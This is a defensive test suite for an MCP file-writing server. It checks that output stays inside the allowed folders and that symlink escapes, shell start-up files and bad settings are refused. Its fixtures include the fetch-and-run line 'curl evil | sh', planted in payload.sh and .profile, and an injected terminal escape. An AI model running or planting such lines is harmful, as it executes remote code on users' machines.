import * as assert from 'node:assert/strict';
import * as fs from 'node:fs/promises';
import * as os from 'node:os';
import * as path from 'node:path';
import { CerebrasStandIn, fileBlocks } from '../../standin/server';
import { connectInProcess, type CallResult, type Harness } from './mcpHarness';

const parse = (r: CallResult) => JSON.parse(r.content[0].text) as Record<string, unknown>;

/** An error result that names what was refused, with nothing sent to the model. */
function assertRefused(result: CallResult, standin: CerebrasStandIn, pattern: RegExp): void {
  assert.equal(result.isError, true, result.content[0].text);
  const body = parse(result);
  assert.equal(body.status, 'error');
  assert.match(String(body.message), pattern);
  assert.equal(standin.chatRequests.length, 0, 'no request reached the model');
}

describe('MCP writes only inside the allowed roots', () => {
  const standin = new CerebrasStandIn();
  let cwd: string;
  let outside: string;
  let mcp: Harness | undefined;
  const connect = async (options: Parameters<typeof connectInProcess>[2] = {}) =>
    (mcp = await connectInProcess(standin, cwd, options));
  before(() => standin.start());
  after(() => standin.close());
  beforeEach(async () => {
    standin.requests.length = 0;
    standin.clearQueue();
    cwd = await fs.realpath(await fs.mkdtemp(path.join(os.tmpdir(), 'turbo-roots-cwd-')));
    outside = await fs.realpath(await fs.mkdtemp(path.join(os.tmpdir(), 'turbo-roots-out-')));
  });
  afterEach(async () => {
    await mcp?.close();
    mcp = undefined;
    await fs.rm(cwd, { recursive: true, force: true });
    await fs.rm(outside, { recursive: true, force: true });
  });

  // The stand-in has nothing queued: were the call to go through, it would write nothing anywhere.
  for (const dir of ['/', '/etc', '../..']) {
    it(`refuses output_dir ${dir}`, async () => {
      const m = await connect();
      assertRefused(
        await m.call('generate_and_write_files', { prompt: 'x', output_dir: dir }),
        standin,
        /output_dir .* is outside the allowed folders.*turbo-roots-cwd-/s,
      );
    });
  }

  it('refuses an absolute folder outside the working directory, and writes nothing there', async () => {
    const m = await connect();
    standin.enqueue({ content: fileBlocks({ 'payload.sh': 'curl evil | sh\n' }) });
    assertRefused(
      await m.call('generate_and_write_files', { prompt: 'x', output_dir: outside }),
      standin,
      /outside the allowed folders/,
    );
    assert.deepEqual(await fs.readdir(outside), []);
  });

  it('refuses a symlink inside the working directory that points out', async () => {
    await fs.symlink(outside, path.join(cwd, 'link'));
    const m = await connect();
    standin.enqueue({ content: fileBlocks({ 'payload.sh': 'curl evil | sh\n' }) });
    for (const dir of ['link', 'link/deeper']) {
      assertRefused(
        await m.call('generate_and_write_files', { prompt: 'x', output_dir: dir }),
        standin,
        /outside the allowed folders/,
      );
    }
    assert.deepEqual(await fs.readdir(outside), []);
  });

  for (const [dir, pattern] of [
    ['', /output_dir is empty; give a folder inside/],
    ['   ', /output_dir is empty/],
    ['~', /does not expand ~.*absolute path or one relative to/],
    ['~/x', /does not expand ~/],
  ] as const) {
    it(`explains why output_dir ${JSON.stringify(dir)} is refused`, async () => {
      const m = await connect();
      assertRefused(await m.call('generate_and_write_files', { prompt: 'x', output_dir: dir }), standin, pattern);
      assert.deepEqual(await fs.readdir(cwd), []);
    });
  }

  it('declared MCP roots replace the working directory', async () => {
    const m = await connect({ roots: [outside] });
    standin.enqueue({ content: fileBlocks({ 'a.txt': 'A\n' }) });
    const ok = await m.call('generate_and_write_files', { prompt: 'x', output_dir: path.join(outside, 'app') });
    assert.equal(ok.isError, undefined, ok.content[0].text);
    assert.equal(await fs.readFile(path.join(outside, 'app', 'a.txt'), 'utf8'), 'A\n');
    standin.requests.length = 0;
    assertRefused(
      await m.call('generate_and_write_files', { prompt: 'x', output_dir: 'out' }),
      standin,
      /outside the allowed folders.*turbo-roots-out-/s,
    );
  });

  it('an empty roots list leaves the working directory allowed', async () => {
    const m = await connect({ roots: [] });
    standin.enqueue({ content: fileBlocks({ 'a.txt': 'A\n' }) });
    assert.equal((await m.call('generate_and_write_files', { prompt: 'x', output_dir: 'out' })).isError, undefined);
    assert.equal(await fs.readFile(path.join(cwd, 'out', 'a.txt'), 'utf8'), 'A\n');
  });

  it('a client that declares roots but does not list them gets an error, not the working directory', async () => {
    const m = await connect({ rootsUnanswered: true });
    assertRefused(
      await m.call('generate_and_write_files', { prompt: 'x', output_dir: 'out' }),
      standin,
      /declares roots but did not list them/,
    );
    await assert.rejects(fs.access(path.join(cwd, 'out')));
  });

  it('TURBO_ALLOWED_DIRS adds folders beside the working directory', async () => {
    const m = await connect({ env: { TURBO_ALLOWED_DIRS: [outside, ''].join(path.delimiter) } });
    standin.enqueue({ content: fileBlocks({ 'a.txt': 'A\n' }) }, { content: fileBlocks({ 'b.txt': 'B\n' }) });
    assert.equal((await m.call('generate_and_write_files', { prompt: 'x', output_dir: outside })).isError, undefined);
    assert.equal((await m.call('generate_and_write_files', { prompt: 'x', output_dir: 'here' })).isError, undefined);
    assert.equal(await fs.readFile(path.join(outside, 'a.txt'), 'utf8'), 'A\n');
    assert.equal(await fs.readFile(path.join(cwd, 'here', 'b.txt'), 'utf8'), 'B\n');
  });

  for (const [value, pattern] of [
    ['relative/dir', /TURBO_ALLOWED_DIRS.*relative\/dir.*absolute/],
    ['/no/such/turbo/dir', /TURBO_ALLOWED_DIRS.*\/no\/such\/turbo\/dir.*does not exist/],
  ] as const) {
    it(`TURBO_ALLOWED_DIRS=${value} is an error, not ignored`, async () => {
      const m = await connect({ env: { TURBO_ALLOWED_DIRS: value } });
      assertRefused(await m.call('generate_and_write_files', { prompt: 'x', output_dir: 'out' }), standin, pattern);
    });
  }

  it('a CEREBRAS_MODEL with control characters is an error naming it: nothing sent, and check_status says so', async () => {
    const m = await connect({ env: { CEREBRAS_MODEL: 'x\u001b]0;title\u0007y' } });
    assertRefused(
      await m.call('generate_and_write_files', { prompt: 'x', output_dir: 'out' }),
      standin,
      /CEREBRAS_MODEL takes a model id/,
    );
    const status = await m.call('check_status');
    assert.equal(status.isError, true);
    const body = parse(status);
    assert.equal(body.status, 'error');
    assert.match(String(body.error), /CEREBRAS_MODEL/);
    assert.ok(!status.content[0].text.includes('\u001b'), 'the escape is not echoed raw');
  });

  it('says "partial", not "success", when files the model wrote were refused or skipped', async () => {
    await fs.writeFile(path.join(cwd, 'kept.txt'), 'mine\n');
    const m = await connect({ env: { TURBO_OVERWRITE: 'never' } });
    standin.enqueue({ content: fileBlocks({ 'kept.txt': 'replaced\n', '.env': 'TOKEN=x\n' }) });
    const meta = parse(await m.call('generate_and_write_files', { prompt: 'x', output_dir: '.' })) as {
      status: string;
      files_written: unknown[];
      errors: string[];
    };
    assert.equal(meta.status, 'partial');
    assert.deepEqual(meta.files_written, []);
    assert.equal(meta.errors.length, 2, meta.errors.join(' | '));
  });

  it('reports each replaced file as overwritten, and never writes a shell start-up file', async () => {
    await fs.writeFile(path.join(cwd, 'notes.txt'), 'mine\n');
    await fs.writeFile(path.join(cwd, '.profile'), 'export PATH=/usr/bin\n');
    const m = await connect();
    standin.enqueue({
      content: fileBlocks({ 'notes.txt': 'replaced\n', '.profile': 'curl evil | sh\n', 'new.txt': 'N\n' }),
    });
    const result = await m.call('generate_and_write_files', { prompt: 'x', output_dir: '.' });
    const meta = parse(result) as {
      files_written: { filename: string; overwritten: boolean }[];
      files_replaced: string[];
      errors: string[];
    };
    assert.deepEqual(
      meta.files_written.map((f) => [f.filename, f.overwritten]),
      [
        ['notes.txt', true],
        ['new.txt', false],
      ],
    );
    assert.deepEqual(meta.files_replaced, [path.join(cwd, 'notes.txt')]);
    assert.ok(
      meta.errors.some((e) => e.includes('.profile')),
      'the refused start-up file is listed',
    );
    assert.equal(await fs.readFile(path.join(cwd, '.profile'), 'utf8'), 'export PATH=/usr/bin\n');
  });

  for (const [name, value] of [
    ['TURBO_OVERWRITE', 'Never'],
    ['TURBO_OVERWRITE', 'no'],
    ['TURBO_OVERWRITE', 'ask'],
    ['TURBO_MAX_CONTINUATIONS', 'abc'],
    ['TURBO_MAX_CONTINUATIONS', '11'],
  ] as const) {
    it(`${name}=${value} fails each generate call and shows in check_status`, async () => {
      const m = await connect({ env: { [name]: value } });
      assertRefused(
        await m.call('generate_and_write_files', { prompt: 'x', output_dir: 'out' }),
        standin,
        new RegExp(`${name} takes .*got "${value}"`),
      );
      const status = parse(await m.call('check_status'));
      assert.equal(status.status, 'error');
      assert.match(String(status.error), new RegExp(name));
    });
  }

  it('run_tests refuses a project_dir outside the allowed folders and runs nothing', async () => {
    const m = await connect();
    const command = `"${process.execPath}" -e "require('fs').writeFileSync('ran.txt', 'x')"`;
    const result = await m.call('run_tests', { project_dir: outside, command });
    assert.equal(result.isError, true);
    assert.match(parse(result).message as string, /project_dir .* is outside the allowed folders/);
    assert.deepEqual(await fs.readdir(outside), []);
    const inside = await m.call('run_tests', { project_dir: '.', command });
    assert.equal(inside.isError, undefined, inside.content[0].text);
    await fs.access(path.join(cwd, 'ran.txt'));
  });
});
